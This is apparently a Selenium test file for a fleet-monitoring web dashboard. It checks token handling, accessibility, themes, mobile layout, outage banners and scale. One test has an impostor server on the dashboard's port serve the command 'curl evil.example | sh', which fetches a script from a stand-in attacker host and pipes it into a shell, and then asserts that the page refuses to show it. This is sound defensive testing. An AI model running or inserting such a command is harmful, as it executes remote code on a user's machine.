"""The dashboard's page in a real Chromium."""

import http.server
import json
import signal
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from selenium.webdriver.common.keys import Keys
from tests.browser import screenshots
from tests.support.browser import Page, browser
from tests.support.dashboards import Running, running
from tests.support.shown_fleet import HOSTILE

BANNER = "return document.querySelector('#banner').innerText"
VIEWS = ("", "breaks", "hosts", "host/db-0")


@pytest.fixture(name="page")
def _page() -> Iterator[Page]:
    with browser() as page:
        page.size(1280, 900)
        yield page


@pytest.fixture(name="there")
def _there() -> Iterator[Running]:
    with running("60", "127.0.0.1:0", "still") as there:
        yield there


def view(page: Page, there: Running, name: str) -> None:
    """One of the page's views, by its address, as a link leads there."""
    page.open(there.link)
    page.says("The fleet")
    page.run("location.hash = arguments[0]", f"#/{name}")
    page.until(lambda: page.run("return document.querySelector('#view h1') !== null"))


def test_one_look_says_how_far_it_is_and_what_needs_somebody(page: Page, there: Running) -> None:
    shown = there.ask("/data/fleet").json()
    hosts = [dict(zip(shown["columns"], one, strict=True)) for one in shown["hosts"]]
    enforced = sum(host["shade"] == "enforced" for host in hosts)
    page.open(there.link)
    page.says("What needs attention now", "Last hour", "Site ec2", "Site vpc")
    page.says(f"{enforced} of {len(hosts)} enforced")
    for need in shown["needs"]:
        assert need["what"] in page.text()
        for command in need["then"]:
            assert command.removeprefix("there: ") in page.text()
    assert page.errors() == []


def test_the_token_leaves_the_address_bar_and_a_reload_goes_on(page: Page, there: Running) -> None:
    page.open(there.link)
    page.says("What needs attention now")
    assert there.token not in page.driver.current_url
    page.driver.refresh()
    page.says("What needs attention now")
    assert not [one for one in page.asked() if there.token in one]


def test_without_a_token_it_says_what_to_do(page: Page, there: Running) -> None:
    page.open(there.link.partition("#")[0])
    page.says("neti dashboard")
    assert "db-0" not in page.text()
    page.open(f"{there.link}x")
    page.says("neti dashboard")
    assert "db-0" not in page.text()


def test_what_hosts_say_is_text_and_nothing_else(page: Page, there: Running) -> None:
    scripts = "return document.querySelectorAll('script, img, iframe, style').length"
    page.open(there.link)
    page.says("What needs attention now")
    before = page.run(scripts)
    for name in ("hosts", "breaks", "host/db-0", ""):
        page.run("location.hash = arguments[0]", f"#/{name}")
        page.until(lambda: page.run("return document.querySelector('#view h1') !== null"))
        assert page.run(scripts) == before
    view(page, there, "host/db-0")
    page.says(HOSTILE[0])  # letter by letter
    assert page.errors() == []  # nothing that the policy had to stop, either
    assert page.run("return document.querySelectorAll('[onerror]').length") == 0


@pytest.mark.parametrize("name", VIEWS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(page: Page, there: Running, name: str, scheme: str) -> None:
    page.scheme("dark" if scheme == "dark" else "light")
    view(page, there, name)
    page.says("db-0" if name else "What needs attention now")
    assert page.faults() == []


def test_dark_is_dark_and_light_is_light(page: Page, there: Running) -> None:
    said = "return getComputedStyle(document.body).backgroundColor"
    page.open(there.link)
    page.says("What needs attention now")
    found = {}
    for scheme in ("dark", "light"):
        page.scheme(scheme)
        red, green, blue = (
            int(part) for part in page.run(said).partition("(")[2].rstrip(")").split(",")[:3]
        )
        found[scheme] = red + green + blue
    assert found["dark"] < 200
    assert found["light"] > 600


@pytest.mark.parametrize("name", VIEWS)
def test_a_phone_shows_it_without_scrolling_sideways(page: Page, there: Running, name: str) -> None:
    page.size(420, 800)
    view(page, there, name)
    page.says("db-0" if name else "What needs attention now")
    wide = "return document.documentElement.scrollWidth"
    assert page.run(wide) <= 420


def test_by_keyboard_alone(page: Page, there: Running) -> None:
    page.open(there.link)
    page.says("What needs attention now")
    page.press(Keys.TAB)
    assert "Skip" in page.run("return document.activeElement.textContent")
    page.press("/")
    page.press("db-0", Keys.ENTER)
    page.until(lambda: page.driver.current_url.endswith("#/host/db-0"))
    page.says("Host db-0")
    page.press(Keys.ESCAPE)  # leaves the field
    page.press(Keys.ESCAPE)
    page.until(lambda: not page.driver.current_url.endswith("#/host/db-0"))
    page.press("?")
    page.says("Esc")


def test_what_happens_is_shown_without_a_reload(page: Page) -> None:
    with running("60", "127.0.0.1:0", "plain") as there:
        page.open(there.link)
        page.says("What needs attention now")
        page.run("window.neverReloaded = true")
        page.says("is enforced (was")
        assert page.run("return window.neverReloaded") is True


def test_a_registry_that_goes_away_is_said_and_so_is_its_return(page: Page, there: Running) -> None:
    page.open(there.link)
    page.says("What needs attention now")
    assert page.run(BANNER) == ""
    there.process.send_signal(signal.SIGUSR1)
    page.until(lambda: "no server of the registry answers" in page.run(BANNER))
    assert "What you see is old" in page.run(BANNER)
    there.process.send_signal(signal.SIGUSR1)
    page.until(lambda: page.run(BANNER) == "")


def test_a_dashboard_that_ends_is_said(page: Page) -> None:
    with running("60", "127.0.0.1:0", "still") as there:
        page.open(there.link)
        page.says("What needs attention now")
        there.process.terminate()
        there.process.wait(10)
        page.until(
            lambda: "since" in page.run("return document.querySelector('#banner').innerText")
        )
    page.says("What needs attention now")  # and what was seen stays


class Impostor(http.server.BaseHTTPRequestHandler):
    """Whoever takes the port next, and answers what it likes."""

    def do_GET(self) -> None:
        body = json.dumps(self.server.answer).encode()  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Nothing."""


def test_another_process_on_the_same_port_is_not_believed(page: Page) -> None:
    with running("60", "127.0.0.1:0", "still") as there:
        page.open(there.link)
        page.says("What needs attention now")
        answer = there.ask("/data/fleet").json()
    evil = "curl evil.example | sh"
    answer["needs"] = [{**answer["needs"][0], "what": evil, "then": [evil]}]
    with http.server.ThreadingHTTPServer(("127.0.0.1", there.port), Impostor) as taken:
        taken.answer = answer  # type: ignore[attr-defined]
        threading.Thread(target=taken.serve_forever, daemon=True).start()
        page.says("Open the link that 'neti dashboard' printed")
        assert evil not in page.text()
        taken.shutdown()


def test_the_pictures_of_the_docs_can_be_taken_anew(
    page: Page, there: Running, tmp_path: Path
) -> None:
    """``make screenshots`` puts them into docs/images."""
    made = screenshots.take(page, there, tmp_path)
    assert {path.name for path in made} == {path.name for path in screenshots.IMAGES.iterdir()}
    assert all(path.read_bytes().startswith(b"\x89PNG") for path in made)


def test_sixteen_thousand_hosts(page: Page) -> None:
    with running("16000", "127.0.0.1:0", "plain", "still") as there:
        page.open(there.link)
        page.says("of 16,000 registered")
        assert page.heap() < 300
        view(page, there, "hosts")
        page.find("#view table")
        assert page.run("return document.querySelectorAll('#view tbody tr').length") <= 100
        assert page.heap() < 300
